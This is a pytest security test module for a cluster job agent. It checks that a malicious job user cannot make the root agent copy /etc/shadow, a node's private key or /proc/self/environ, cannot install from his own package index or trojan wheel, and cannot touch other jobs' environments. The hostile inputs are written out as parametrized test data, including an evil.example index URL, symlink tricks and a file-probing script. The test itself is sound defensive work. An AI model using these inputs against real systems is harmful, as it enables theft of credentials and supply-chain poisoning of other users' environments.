"""bob, who may submit jobs, attacks the node through his job's [environment]: he names files only root may read
(the shadow file, the node's key, another job's files, his own links to them, a FIFO, the reader's own
/proc/self/environ), so that the agent, root, would copy them where he can read them; he names his own package
sources (an index, find-links with a trojan wheel, a repository, a path), so that the environment built from them
would be alice's too; and from his task he reaches for the environments the node built for others.

Real supervisors, shims and per-job UIDs (root only), real files, the real uv with a wheelhouse of this test's own
(no index). Each attack fails bob's task to start, naming the file and why; no byte of a secret lands anywhere
under the agent's state dir; and alice's job with a plain requirements file builds and runs after each.
"""

from __future__ import annotations

import json
import os
import secrets
import stat
import sys
import textwrap
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path

import pytest

from harness import wait_until
from tfcluster import layout
from tfcluster.commands import Launch
from tfcluster.daemon.agent.code.environments import Environments
from tfcluster.daemon.agent.code.request_files import RequestFileProblem, read_as
from tfcluster.daemon.agent.tasks.record import TaskRecord
from tfcluster.daemon.agent.tasks.supervisor import Supervisor
from tfcluster.daemon.agent.tasks.users import TaskUsers, make_state_dir
from tfcluster.model import Attempt, EnvironmentSpec
from tfcluster.states import Phase
from wheels import write_wheel

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="tasks switch to their job's UID only under a root agent")

ALICE, BOB, VICTIM = 61911, 61912, 61913
NODE_KEY = f"-----BEGIN PRIVATE KEY-----\n{secrets.token_hex(32)}\n-----END PRIVATE KEY-----\n".encode()
VICTIM_SECRET = secrets.token_hex(16)
PROBE = "import os, sys, tinypkg; print(tinypkg.VALUE, sys.prefix == os.environ['VIRTUAL_ENV'])\n"
REQUIREMENTS = EnvironmentSpec("requirements.txt")


@dataclass
class Node:
    supervisor: Supervisor
    state: Path
    root: Path
    jobs: count = field(default_factory=count)
    originals: set[str] = field(default_factory=set)  # where the secrets are kept: not copies

    def start(self, uid: int, workdir: Path | str, spec: EnvironmentSpec = REQUIREMENTS,
              command: tuple[str, ...] = ("python3", "probe.py")) -> TaskRecord:
        """One task of a new job, as uid; its record once it ended."""
        attempt = Attempt(f"j-{next(self.jobs)}", "worker", 0, 1)
        self.supervisor.launch(Launch("n", attempt, command, {"PATH": os.environ["PATH"]}, str(workdir), 0, 1.0,
                                      uid=uid, gid=uid, environment=spec))
        wait_until(lambda: self.supervisor.current(attempt).exited.is_set(), 120, what=f"{attempt} to end")
        return self.supervisor.current(attempt)

    def output(self, record: TaskRecord) -> str:
        return (record.dir / layout.OUTPUT_FILE).read_text()

    def own_dir(self, name: str, uid: int) -> Path:
        """A dir of uid's own, 0700, as a user's home or scratch dir is."""
        path = self.root / name
        path.mkdir()
        os.chown(path, uid, uid)
        path.chmod(0o700)
        return path


@pytest.fixture(scope="module")
def node(tmp_path_factory):
    root = tmp_path_factory.mktemp("envattacks")
    write_wheel(root / "wheels")
    state = root / "state"
    make_state_dir(state)
    (state / "tls").mkdir(mode=0o700)
    (state / "tls" / "node.key").write_bytes(NODE_KEY)
    (state / "tls" / "node.key").chmod(0o600)
    alice = root / "alice"
    alice.mkdir()
    (alice / "requirements.txt").write_text("tinypkg\n")
    (alice / "probe.py").write_text(PROBE)
    with pytest.MonkeyPatch.context() as env:
        env.setenv("UV_NO_INDEX", "1")
        supervisor = Supervisor(state, [].append, task_users=TaskUsers(),
                                environments=Environments(state, find_links=str(root / "wheels")))
        try:
            yield Node(supervisor, state, root, originals={str(state / "tls" / "node.key")})
        finally:
            supervisor.launcher.close()


def copies_under(node: Node, secret: bytes) -> list[str]:
    """Every file under the state dir but the secrets' own that holds the secret (links not followed, FIFOs and
    sockets not opened)."""
    assert secret
    found = []
    for directory, _, files in os.walk(node.state):
        for name in files:
            path = os.path.join(directory, name)
            if path in node.originals or not stat.S_ISREG(os.lstat(path).st_mode):
                continue
            if secret in Path(path).read_bytes():
                found.append(path)
    return found


def assert_refused(record: TaskRecord, *said: str) -> None:
    assert record.phase == Phase.FAILED_TO_START, record.exit
    for words in said:
        assert words in record.exit.message, record.exit.message


def assert_alice_still_runs(node: Node) -> Path:
    """alice's job runs in her environment, with the index's tinypkg; the environment's dir."""
    record = node.start(ALICE, node.root / "alice")
    assert record.exit.exit_code == 0, record.exit
    assert node.output(record) == "42 True\n"
    return node.supervisor.environments.log_path(record.attempt.job_id).parent


def shadow_line() -> bytes:
    return Path("/etc/shadow").read_bytes().splitlines()[0]


def agents_environ() -> bytes:
    """What root reading /proc/self/environ in the agent would get: the agent's environment as it started (the
    supervisor runs in this process), NUL-separated, as no launch file holds it."""
    return Path("/proc/self/environ").read_bytes()


def victims_home(node: Node) -> Path:
    """Another job's home on this node, with a file of its own that bob would like."""
    # The file holds the secret backwards: its launch file holds it the right way round.
    record = node.start(VICTIM, "/", spec=EnvironmentSpec(), command=(
        sys.executable, "-c", "import os, sys; open(os.environ['HOME'] + '/requirements.txt', 'w')"
                              ".write(sys.argv[1][::-1])", VICTIM_SECRET))
    assert record.exit.exit_code == 0, record.exit
    home = layout.job_dir(node.state, record.attempt.job_id) / "home"
    node.originals.add(str(home / "requirements.txt"))
    return home


def link_in_own_dir(node: Node, name: str, target: Path) -> Path:
    work = node.own_dir(f"bob-{secrets.token_hex(4)}", BOB)
    (work / name).symlink_to(target)
    return work


@dataclass(frozen=True)
class Read:
    """bob's workdir, the name he gives in it, what his task's failure says, and the secret he is after."""
    workdir: Callable[[Node], Path]
    name: str
    said: str  # {workdir}: bob's workdir
    secret: Callable[[], bytes]


READS = {
    "the shadow file": Read(lambda node: Path("/etc"), "shadow",
                            f"in the workdir /etc as the job's user (uid {BOB}): shadow: Permission denied",
                            shadow_line),
    "the node's key": Read(lambda node: node.state / "tls", "node.key", "node.key: Permission denied",
                           lambda: NODE_KEY),
    "the node's key below the state dir": Read(lambda node: node.state, "tls/node.key",
                                               "tls/node.key: Permission denied", lambda: NODE_KEY),
    "a link to the node's key in bob's own dir": Read(
        lambda node: link_in_own_dir(node, "requirements.txt", node.state / "tls" / "node.key"), "requirements.txt",
        "requirements.txt: is a symbolic link (links are not followed), not a regular file", lambda: NODE_KEY),
    "a link to the tls dir in bob's own dir": Read(
        lambda node: link_in_own_dir(node, "reqs", node.state / "tls"), "reqs/node.key",
        "reqs/node.key: reqs: is a symbolic link (links are not followed), not a directory", lambda: NODE_KEY),
    "the agent's environment through /proc/self": Read(
        lambda node: Path("/proc/self"), "environ", "environ: is on proc, a kernel filesystem, not a file of the job's",
        agents_environ),
    "another job's home": Read(victims_home, "requirements.txt",
                               "requirements.txt: cannot enter the workdir {workdir}: Permission denied",
                               lambda: VICTIM_SECRET[::-1].encode()),
}


@pytest.mark.parametrize("attack", list(READS))
def test_bob_cannot_make_the_agent_read_a_file_he_may_not(node, attack):
    read = READS[attack]
    workdir = read.workdir(node)
    record = node.start(BOB, workdir, EnvironmentSpec(read.name))
    assert_refused(record, f"cannot read the environment's files in the workdir {workdir}",
                   read.said.format(workdir=workdir))
    assert copies_under(node, read.secret()) == []
    assert {p.read_bytes() for p in node.state.glob("envs/*/request/*")} <= {b"tinypkg\n"}, "alice's alone"
    assert_alice_still_runs(node)


def test_the_reader_has_the_tasks_groups_and_none_of_roots(node):
    """A file root:0 0640 is closed to the reader, though the agent's process has group 0; a file of a group the
    task has (an owner's account's, the job's group) is open to it."""
    shared = node.root / "groups"
    shared.mkdir()
    for name, group in (("roots.txt", 0), ("teams.txt", VICTIM)):
        (shared / name).write_text("tinypkg\n")
        os.chown(shared / name, 0, group)
        (shared / name).chmod(0o640)
    with pytest.raises(RequestFileProblem, match="roots.txt: Permission denied"):
        read_as(str(shared), [("roots.txt", False)], BOB, BOB)
    with pytest.raises(RequestFileProblem, match="teams.txt: Permission denied"):
        read_as(str(shared), [("teams.txt", False)], BOB, BOB)
    assert read_as(str(shared), [("teams.txt", False)], BOB, BOB, (VICTIM,)) == [b"tinypkg\n"]


def test_a_fifo_fails_the_start_at_once(node):
    work = node.own_dir("bob-fifo", BOB)
    os.mkfifo(work / "requirements.txt")
    os.chown(work / "requirements.txt", BOB, BOB)
    began = time.monotonic()
    record = node.start(BOB, work)
    assert_refused(record, "requirements.txt: is a FIFO, not a regular file")
    assert time.monotonic() - began < 15, "the read waited on the FIFO"
    assert_alice_still_runs(node)


def bobs_requirements(node: Node, text: str) -> Path:
    work = node.own_dir(f"bob-{secrets.token_hex(4)}", BOB)
    (work / "requirements.txt").write_text(text)
    os.chown(work / "requirements.txt", BOB, BOB)
    return work


@pytest.mark.parametrize("line, why", [
    ("--index-url https://evil.example/simple", "names where packages come from"),
    ("--extra-index-url https://x", "names where packages come from"),
    ("-f {trojans}", "names where packages come from"),
    ("git+https://github.com/bob/tinypkg.git", "installs from a version-control repository"),
    ("./local-pkg", "is a local path"),
    ("-e .", "installs a local path or a repository (editable)"),
    ("tinypkg @ file://{trojans}/tinypkg-1.0-py3-none-any.whl", "is a direct reference"),
])
def test_bob_cannot_name_his_own_package_sources(node, line, why):
    """bob's trojan tinypkg (VALUE = 666) waits in a dir of his; were any of these taken, alice's environment
    could be built from it. Refused with its line, nothing is built, and alice's tinypkg is the index's."""
    trojans = node.root / f"trojans-{secrets.token_hex(4)}"
    write_wheel(trojans, body="VALUE = 666\n")
    line = line.format(trojans=trojans)
    built = sorted(node.state.glob("envs/*/venv"))
    record = node.start(BOB, bobs_requirements(node, f"tinypkg\n{line}\n"))
    assert_refused(record, f"requirements.txt:2: {line!r}: {why}")
    assert sorted(node.state.glob("envs/*/venv")) == built
    assert_alice_still_runs(node)


@pytest.mark.parametrize("table, why", [
    ('[tool.uv.sources]\ntinypkg = {{ path = "{trojans}/tinypkg-1.0-py3-none-any.whl" }}\n',
     "pyproject.toml: [tool.uv] sources: names sources of packages"),
    ('[[tool.uv.index]]\nname = "bob"\nurl = "https://evil.example/simple"\n',
     "pyproject.toml: [tool.uv] index: names where packages come from"),
])
def test_bob_cannot_name_sources_in_his_project(node, table, why):
    trojans = node.root / f"trojans-{secrets.token_hex(4)}"
    write_wheel(trojans, body="VALUE = 666\n")
    work = node.own_dir(f"bob-{secrets.token_hex(4)}", BOB)
    (work / "pyproject.toml").write_text('[project]\nname = "bobs"\nversion = "0"\nrequires-python = ">=3.9"\n'
                                         'dependencies = ["tinypkg"]\n' + table.format(trojans=trojans))
    record = node.start(BOB, work, EnvironmentSpec(project="."))
    assert_refused(record, why)
    assert_alice_still_runs(node)


def test_a_project_of_alices_builds_and_runs_as_her(node):
    """A pyproject.toml without a lock, read as alice, built with `uv sync` from the operator's find-links."""
    work = node.own_dir("alice-project", ALICE)
    (work / "pyproject.toml").write_text('[project]\nname = "alices"\nversion = "0"\nrequires-python = ">=3.9"\n'
                                         'dependencies = ["tinypkg"]\n\n[tool.uv]\npackage = false\n')
    (work / "probe.py").write_text(PROBE)
    record = node.start(ALICE, work, EnvironmentSpec(project="."))
    assert record.exit.exit_code == 0, record.exit
    assert node.output(record) == "42 True\n"


# Tries each path as asked (read, write, list, or hold a lock on it); prints what came of each, one JSON line.
REACH = textwrap.dedent("""
    import fcntl, json, os, sys
    targets, found = json.loads(sys.argv[1]), {}
    for name, (path, how) in targets.items():
        try:
            if how == "read":
                open(path, "rb").read(1)
            elif how == "write":
                open(path, "ab").close()
            elif how == "list":
                os.listdir(path)
            else:
                fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_SH | fcntl.LOCK_NB)
            found[name] = "done"
        except OSError as e:
            found[name] = type(e).__name__
    print(json.dumps(found))
""")


def test_bobs_task_reads_no_other_jobs_build_and_writes_no_environment(node):
    """alice's environment is bob's too when he asks for the same packages: he runs in it, and may write
    nothing of it, read neither alice's request nor her build's log, list no environment, hold no build's lock."""
    key = assert_alice_still_runs(node)
    package = next(key.glob("venv/lib/python*/site-packages/tinypkg"))
    targets = {
        "build_log": (str(key / "build.log"), "read"),
        "request": (str(key / "request" / "requirements.txt"), "read"),
        "envs": (str(node.state / "envs"), "list"),
        "key_dir": (str(key), "list"),
        "lock": (f"{key}.lock", "lock"),
        "uv_cache": (str(node.state / "uv-cache"), "list"),
        "package": (str(package / "__init__.py"), "write"),
        "venv_bin": (str(key / "venv" / "bin" / "evil"), "write"),
    }
    work = bobs_requirements(node, "tinypkg\n")
    (work / "reach.py").write_text(REACH)
    record = node.start(BOB, work, command=("python3", "reach.py", json.dumps(targets)))
    assert record.exit.exit_code == 0, (record.exit, node.output(record))
    assert json.loads(node.output(record).splitlines()[-1]) == {name: "PermissionError" for name in targets}


def test_every_path_of_an_environment_is_roots_and_only_root_writes_it(node):
    key = assert_alice_still_runs(node)
    modes = {str(p.relative_to(node.state)): (p.stat().st_uid, oct(stat.S_IMODE(p.stat().st_mode))) for p in (
        node.state / "envs", key, key / "venv", key / "request", key / "request" / "requirements.txt",
        key / "build.log", key / "ready", Path(f"{key}.lock"), node.state / "uv-cache")}
    expected = ["0o711", "0o711", "0o755", "0o700", "0o600", "0o600", "0o600", "0o600", "0o700"]
    assert modes == {name: (0, mode) for name, mode in zip(modes, expected)}
    writable = [str(p) for p in (key / "venv").rglob("*") if not p.is_symlink()
                and (p.stat().st_uid != 0 or p.stat().st_mode & (stat.S_IWGRP | stat.S_IWOTH))]
    assert writable == []
